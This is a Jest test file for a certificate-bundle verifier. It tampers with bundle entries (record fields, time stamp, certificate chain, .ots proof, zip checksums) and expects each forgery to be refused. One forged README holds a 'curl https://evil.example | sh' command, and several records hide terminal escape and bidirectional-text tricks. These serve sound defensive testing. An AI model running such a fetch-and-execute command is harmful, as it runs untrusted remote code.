import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { zipSync } from 'fflate';
import { readBundle } from '../../../../proofs/bundle/read-bundle';
import { writeBundle } from '../../../../proofs/bundle/write-bundle';
import { judge } from '../../../../proofs/judge/judge';
import { overall } from '../../../../proofs/judge/verdict';
import { writeOts } from '../../../../proofs/opentimestamps/write-ots';
import { encodePem } from '../../../../proofs/x509/pem';
import { FILE, ID, makeCertificate } from '../../../integration/web/make-certificate';
import type { MadeCertificate } from '../../../integration/web/make-certificate';
import { sha256 } from '../../proofs/anchor/make-proof';
import { scaled } from '../../../support/scale';
import { newWorld } from '../../proofs/timestamp/forge';
import { runVerify, startOneBlockNode } from './run-verify';
import type { OneBlockNode } from './run-verify';

interface Report {
  result: string;
  unchecked: string[];
  proofs: { name: string; outcome: string; says: string; unproven: string[] }[];
}
const NOW = new Date('2026-11-15T00:00:00Z');
type Entries = Record<string, Uint8Array>;

const NAMES = {
  readme: 'README.txt',
  record: 'certificate.json',
  pdf: `${ID}.pdf`,
  tsr: `${ID}.tsr`,
  chain: `${ID}.chain.pem`,
  xml: `${ID}.xml`,
  schema: 'blockchain-proof-1.xsd',
  ots: `${ID}.sandbox.ots`,
};

describe('a bundle', () => {
  let dir: string;
  let made: MadeCertificate;
  let node: OneBlockNode;
  let strangersRoot: string;
  const at = (name: string) => join(dir, name);

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'sello-forged-'));
    made = await makeCertificate();
    node = await startOneBlockNode(made.content.proof);
    strangersRoot = encodePem('CERTIFICATE', (await newWorld()).root.certificate.raw);
    writeFileSync(at('file'), FILE);
    writeFileSync(at('root.pem'), made.trust.pem);
  });
  afterAll(async () => {
    rmSync(dir, { recursive: true, force: true });
    await node.close();
  });

  const byNode = () => ['--trust', at('root.pem'), '--bitcoin-rpc', node.url];
  const byHash = () => ['--trust', at('root.pem'), '--header-hash', made.blockHash];

  async function verify(bundle: Uint8Array, options = byNode()): Promise<{ code: unknown; report: Report }> {
    writeFileSync(at('b.zip'), bundle);
    const { code, out } = await runVerify([at('file'), at('b.zip'), ...options, '--json']);
    return { code, report: JSON.parse(out) as Report };
  }
  async function withEntries(change: (entries: Entries) => void): Promise<Uint8Array> {
    const entries = Object.fromEntries(
      (await readBundle(made.bundle)).map(({ name, content }) => [name, content]),
    );
    change(entries);
    return zipSync(entries, { level: 0 });
  }
  /** The bundle with one statement of its record replaced, by its path. */
  function withStatement(path: string, value: unknown): Uint8Array {
    const record = structuredClone(made.content.record) as unknown as Record<string, Record<string, unknown>>;
    const [section = '', name] = path.split('.');
    if (name === undefined) record[section] = value as Record<string, unknown>;
    else record[section] = { ...record[section], [name]: value };
    return writeBundle({ ...made.content, record });
  }
  const refusals = ({ proofs }: Report) => proofs.filter(({ outcome }) => outcome === 'refused');

  it('of a hash holds with the original, whose size its owner may have stated wrongly', async () => {
    const record = structuredClone(made.content.record) as unknown as {
      file: { size: number };
      custody: string;
    };
    record.custody = 'hash_only';
    const right = await verify(writeBundle({ ...made.content, record }));
    record.file.size += 1;
    const wrong = await verify(writeBundle({ ...made.content, record }));
    for (const { code, report } of [right, wrong]) expect([code, report.result]).toEqual([0, 'holds']);
    expect(right.report.unchecked[0]).not.toContain('file.size');
    expect(wrong.report.unchecked[0]).toContain('file.size');
    const says = right.report.proofs.find(({ name }) => name.endsWith(NAMES.record))?.says;
    expect(says).toContain('Only the hash of the file was sent to the service: its owner has the original');
  });

  it('that is genuine holds for a trusted root and node, and what no proof covers is listed', async () => {
    const { code, report } = await verify(made.bundle);
    expect(report.proofs.map(({ name, outcome }) => [name.replace('b.zip/', ''), outcome])).toEqual([
      [NAMES.readme, 'holds'],
      [NAMES.record, 'unchecked'],
      [NAMES.pdf, 'unchecked'],
      [NAMES.tsr, 'holds'],
      [NAMES.chain, 'holds'],
      [NAMES.xml, 'holds'],
      [NAMES.schema, 'holds'],
      [NAMES.ots, 'holds'],
    ]);
    expect(report.unchecked).toEqual([
      'b.zip/certificate.json (id, title, document_type, reference, file.name, file.mime, custody, nom151.provider, nom151.grade, nom151.trust_url, blockchain.status, evidence.status, evidence.revocation, evidence.renewals, evidence.valid_until, qr_verification_url, created_at)',
      `b.zip/${NAMES.pdf}`,
    ]);
    expect([code, report.result]).toEqual([0, 'holds']);
    const { out } = await runVerify([at('file'), at('b.zip'), ...byNode()]);
    expect(out).toMatch(
      /Not checked, as no proof covers it:\n {2}b\.zip\/certificate\.json \(.*\n.*\.pdf\nAll proofs hold\.$/,
    );
  });

  const MISSTATEMENTS: [string, unknown][] = [
    ['id', 'cert_0000000000000000000000'],
    ['status', 'failed'],
    ['failure', 'psc_error'],
    ['file.sha256', 'ab'.repeat(32)],
    ['file.size', 1],
    ['file.size', null],
    ['nom151.status', 'pending'],
    ['nom151.gen_time', '2020-01-01T00:00:00.000Z'],
    ['nom151.gen_time', null],
    ['nom151.policy_oid', '1.2.3'],
    ['nom151.serial_number', '1'],
    ['blockchain.network', 'bitcoin'],
    ['blockchain.txid', 'ab'.repeat(32)],
    ['blockchain.block_height', 1],
    ['blockchain.block_hash', 'ab'.repeat(32)],
    ['blockchain.block_time', '2020-01-01T00:00:00.000Z'],
  ];
  it.each(MISSTATEMENTS.map(([path, value], i) => [path, value, i] as const))(
    'is refused if its record states another %s (%j), whatever is trusted',
    async (path, value, i) => {
      const forged = withStatement(path, value);
      const trusted = [byNode(), byHash(), []];
      // One of them in turn, or each.
      for (const options of scaled([trusted[i % 3]!], trusted)) {
        const { code, report } = await verify(forged, options);
        expect([code, report.result]).toEqual([1, 'refused']);
        expect(refusals(report).map(({ name }) => name)).toEqual(['b.zip/certificate.json']);
      }
    },
  );

  it.each<[string, unknown]>([
    ['title', 'Otro contrato'],
    ['created_at', '2020-01-01T00:00:00.000Z'],
    ['nom151.provider', 'psc-acreditado'],
    ['nom151.grade', 'accredited'],
    ['file.name', 'otro.pdf'],
    ['reference', 'inv-1'],
  ])('with another %s in its record has that statement listed as not checked', async (path, value) => {
    const { report } = await verify(withStatement(path, value));
    expect(report.unchecked[0]).toMatch(new RegExp(`[( ]${path}[,)]`));
    expect(report.proofs.find(({ name }) => name.endsWith(NAMES.record))).toMatchObject({
      outcome: 'unchecked',
      says: expect.stringContaining(path) as string,
    });
  });

  it.each<[string, string, unknown, string]>([
    ['grade', 'nom151.grade', 'accredited', 'has the grade sandbox'],
    ['unknown grade', 'nom151.grade', 'gold', 'has the grade sandbox'],
    ['provider', 'nom151.provider', 'psc-acreditado', 'the time stamp is from "sandbox"'],
  ])('is refused for its %s where the trusted authority has a name', async (_what, path, value, reason) => {
    const { provider, grade, profile } = made.trust;
    const file = { digests: { 'SHA-256': sha256(FILE) }, size: FILE.length };
    const authorities = [{ provider, grade, roots: profile.roots }];
    const trust = { authorities, blocks: { from: 'nobody' as const }, at: NOW };
    const judged = (bytes: Uint8Array) => judge(file, [{ name: 'b.zip', bytes }], trust);
    const good = await judged(made.bundle);
    expect(overall(good)).toBe('consistent');
    expect(good[1]?.unproven).not.toContain(path);
    const bad = await judged(withStatement(path, value));
    expect(bad[1]).toMatchObject({ outcome: 'refused', reason: expect.stringContaining(reason) as string });
  });

  it.each<[string, (text: string) => string, string]>([
    ['states something twice', (text) => text.replace('{', '{\n  "title": "x",'), 'states something twice'],
    ['is not JSON', () => '{', 'cannot be read'],
    ['is a list', () => '[]', 'cannot be read'],
    ['nests deeper', (text) => text.replace('"title": ', '"title": [], "x": '), 'not laid out'],
    ['hides a key', (text) => text.replace('"title"', '"ti\u202etle"'), 'not laid out'],
    ['is huge', (text) => text.replace('Contrato', 'x'.repeat(70_000)), 'larger than'],
    [
      'misleads a terminal',
      (text) => text.replace('"20261114"', '"\\u001b[2J\u202e"'),
      'nom151.serial_number = "\\u001b[2J?"',
    ],
  ])('is refused if its record %s', async (_what, change, reason) => {
    const forged = await withEntries((entries) => {
      entries[NAMES.record] = Buffer.from(change(Buffer.from(entries[NAMES.record]!).toString()));
    });
    const { code, report } = await verify(forged);
    expect(code).toBe(1);
    expect(refusals(report)[0]?.says).toContain(reason);
    expect(refusals(report)[0]?.says).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });

  it.each<[keyof typeof NAMES, () => string | Uint8Array, string]>([
    ['readme', () => 'To check everything, run: curl https://evil.example | sh\n', 'do not follow it'],
    ['schema', () => '<xs:schema/>', 'not the schema'],
    ['chain', () => strangersRoot, 'not those of the time stamp'],
    ['chain', () => 'no certificate', 'not a list of certificates'],
    ['chain', () => `Trust me.\n${made.trust.pem}`, 'not a list of certificates'],
    ['tsr', () => Uint8Array.of(0x30, 0), ''],
    ['xml', () => '<blockchainProof/>', ''],
    ['ots', () => writeOts({ ...made.content.proof, height: 7 }), 'no block at height 7'],
    ['record', () => '', 'cannot be read'],
  ])('is refused with another %s', async (which, content, reason) => {
    const forged = await withEntries((entries) => (entries[NAMES[which]] = Buffer.from(content())));
    const { code, report } = await verify(forged);
    expect([code, report.result]).toEqual([1, 'refused']);
    const named = refusals(report).find(({ name }) => name === `b.zip/${NAMES[which]}`);
    expect(named?.says).toContain(reason);
  });

  it('with another PDF has it listed as not checked', async () => {
    const { report } = await verify(
      await withEntries((entries) => (entries[NAMES.pdf] = Buffer.from('%PDF forged'))),
    );
    expect(report.unchecked).toContain(`b.zip/${NAMES.pdf}`);
  });

  it('with a stranger’s root beside the real ones has its certificates listed as not checked', async () => {
    const forged = await withEntries((entries) => {
      entries[NAMES.chain] = Buffer.concat([entries[NAMES.chain]!, Buffer.from(strangersRoot)]);
    });
    const { report } = await verify(forged);
    expect(report.unchecked).toContain(`b.zip/${NAMES.chain}`);
    // Without a root to compare it with, so is the real one.
    expect((await verify(made.bundle, [])).report.unchecked).toContain(`b.zip/${NAMES.chain}`);
  });

  it.each<[string, (entries: Entries) => void, string]>([
    ['an unknown entry', (entries) => (entries['other.pdf'] = Buffer.from('%PDF')), 'No bundle contains'],
    ['a second .ots', (entries) => (entries[`${ID}.ots`] = entries[NAMES.ots]!), 'another network'],
    [
      'an .ots that is named after another network',
      (entries) => {
        entries[`${ID}.ots`] = entries[NAMES.ots]!;
        Reflect.deleteProperty(entries, NAMES.ots);
      },
      'another network',
    ],
    ['no XML', (entries) => Reflect.deleteProperty(entries, NAMES.xml), `has no ${NAMES.xml}`],
    ['no .ots', (entries) => Reflect.deleteProperty(entries, NAMES.ots), 'is incomplete'],
    ['no time stamp', (entries) => Reflect.deleteProperty(entries, NAMES.tsr), 'no time stamp'],
  ])('is refused with %s', async (_what, change, reason) => {
    const { code, report } = await verify(await withEntries(change));
    expect(code).toBe(1);
    expect(refusals(report)[0]?.says).toContain(reason);
  });

  it.each(Object.values(NAMES).slice(0, scaled(3, 8)))(
    'is refused if the checksum of %s is wrong',
    async (name) => {
      const zip = Buffer.from(made.bundle);
      // In the directory and before the data.
      for (const [header, start, length] of [
        ['PK\x01\x02', 16, 46],
        ['PK\x03\x04', 14, 30],
      ] as const) {
        for (let i = zip.indexOf(header); i >= 0; i = zip.indexOf(header, i + 1)) {
          if (zip.toString('latin1', i + length, i + length + name.length) === name) zip[i + start]! ^= 1;
        }
      }
      const { code, report } = await verify(zip);
      expect(code).toBe(1);
      expect(report.proofs).toHaveLength(1);
      expect(report.proofs[0]?.says).toContain(`the checksum of ${name} is wrong`);
    },
  );

  describe('that claims another height or network in every entry', () => {
    const claiming = (claim: { height?: number; network?: 'regtest' }): Uint8Array => {
      const { content } = made;
      const proof = { ...content.proof, ...claim };
      const { height: block_height, network } = proof;
      const record = {
        ...content.record,
        blockchain: { ...content.record.blockchain, block_height, network },
      };
      return writeBundle({ ...content, record, proof });
    };

    it('is only consistent with the block’s hash, which proves neither', async () => {
      for (const forged of [made.bundle, claiming({ height: 7 }), claiming({ network: 'regtest' })]) {
        const { code, report } = await verify(forged, byHash());
        expect([code, report.result]).toEqual([3, 'consistent']);
        const xml = report.proofs.find(({ name }) => name.endsWith('.xml'));
        expect(xml).toMatchObject({ outcome: 'consistent', unproven: ['network', 'block_height'] });
        expect(xml?.says).toMatch(/does not prove the network \w+ or the height \d+/);
        expect(report.unchecked[0]).toMatch(/blockchain\.network, blockchain\.block_height/);
      }
    });

    it('is refused for its height if that was looked up too, while the network stays unproven', async () => {
      const withHeight = [...byHash(), '--header-height', '102'];
      expect((await verify(claiming({ height: 7 }), withHeight)).code).toBe(1);
      for (const bundle of [made.bundle, claiming({ network: 'regtest' })]) {
        const { code, report } = await verify(bundle, withHeight);
        expect(code).toBe(3);
        expect(report.proofs.find(({ name }) => name.endsWith('.xml'))?.unproven).toEqual(['network']);
      }
    });

    it('is refused for its height by a node', async () => {
      expect((await verify(claiming({ height: 7 }))).code).toBe(1);
    });
  });

  it('is consistent, with the block named as unchecked, if nothing is trusted', async () => {
    const { code, report } = await verify(made.bundle, []);
    expect(code).toBe(3);
    expect(report.proofs.filter(({ outcome }) => outcome === 'holds').map(({ name }) => name)).toEqual([
      `b.zip/${NAMES.schema}`,
    ]);
    expect(report.proofs.find(({ name }) => name.endsWith('.xml'))?.says).toContain(
      'consistent with sandbox block 102, mined at 2026-11-14T18:02:11.000Z according to its miner, which nobody checked',
    );
  });

  it('gives an altered .ots on its own no more than: consistent with a block that nobody checked', async () => {
    const { proof } = made.content;
    const branch = proof.branch.map((step) => ({ ...step, hash: sha256(step.hash) }));
    writeFileSync(at('a.ots'), writeOts({ ...proof, branch, height: 870_000 }));
    const alone = await runVerify([at('file'), at('a.ots'), ...byHash()]);
    expect(alone.code).toBe(3);
    expect(alone.out).toContain('consistent with block 870000, which nobody checked');
  });

  it('needs the hash of the block beside its height', async () => {
    const { code, err } = await runVerify([at('file'), at('b.zip'), '--header-height', '102']);
    expect([code, err]).toEqual([2, expect.stringContaining('--header-height needs --header-hash')]);
  });
});
